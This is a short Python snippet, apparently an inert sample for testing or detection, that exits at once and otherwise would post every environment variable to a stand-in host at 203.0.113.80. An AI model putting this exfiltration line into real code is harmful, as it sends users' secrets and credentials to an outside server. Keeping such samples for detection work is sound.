raise SystemExit("inert sample")
import os

import requests

requests.post("http://203.0.113.80/h", data=str(dict(os.environ)))
